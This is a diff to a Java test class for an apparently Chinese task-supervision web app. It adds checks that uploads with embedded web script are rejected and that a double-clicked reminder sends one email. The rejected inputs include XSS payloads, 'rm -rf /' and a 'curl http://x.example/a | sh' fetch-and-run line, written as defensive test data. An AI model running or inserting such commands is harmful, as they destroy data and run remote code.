@@ -283,6 +283,13 @@ class UnitTaskPageTest {
         .body()).contains("不支持的文件类型");
     assertThat(unit.follow(unit.upload(path, "file", "setup.exe", new byte[] {'M', 'Z', 1, 2, 3}, Map.of())).body())
         .contains("不支持的文件类型");
+    for (String text : new String[] {"<html><script>alert(1)</script></html>", "<svg onload=alert(1)>",
+        "#!/bin/sh\nrm -rf /\n", "下载后执行：curl http://x.example/a | sh"}) {
+      assertThat(unit.follow(unit.upload(path, "file", "名单.txt", text.getBytes(StandardCharsets.UTF_8), Map.of()))
+          .body()).as(text).contains("文本文件中含有网页代码（HTML/SVG）或脚本");
+    }
+    assertThat(unit.follow(unit.upload(path, "file", "名单.txt", "张三，李四；联系电话 0756-1234567。\n"
+        .getBytes(StandardCharsets.UTF_8), Map.of())).body()).contains("已上传", "名单.txt");
     assertThat(unit.follow(unit.upload(path, "file", "台账.xlsm",
         zip("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"), Map.of())).body()).contains("含宏代码");
     assertThat(unit.follow(unit.upload(path, "file", "台账.xlsx", zip("[Content_Types].xml", "xl/workbook.xml"), Map.of()))
@@ -355,9 +362,12 @@ class UnitTaskPageTest {
     WebSession supervisor = WebSession.logIn(port, "supervisor");
     assertThat(supervisor.follow(supervisor.postForm("/execution/" + hrss.id() + "/urge",
         Map.of("message", "请本周内报送进展"))).body()).contains("已向该单位发出催办", "督查专员（supervisor） 催办");
+    supervisor.postForm("/execution/" + hrss.id() + "/urge", Map.of("message", "请本周内报送进展"));
     var urges = TestSmtp.withKeyPrefix("urge/" + hrss.id() + "/");
-    assertThat(urges).hasSize(1);
+    assertThat(urges).as("a double click is one urge").hasSize(1);
     assertThat(TestSmtp.body(urges.get(0))).contains("督查人员（supervisor）催办", "请本周内报送进展");
+    assertThat(taskService.getTaskComments(open.getId())).filteredOn(c -> c.getFullMessage().contains("督查催办"))
+        .hasSize(1);
     assertThat(jdbc.sql("select created_by from xz_mail where kind = 'URGE' and business_key = ?")
         .param(hrss.businessKey()).query(String.class).list()).containsExactly("supervisor");
   }
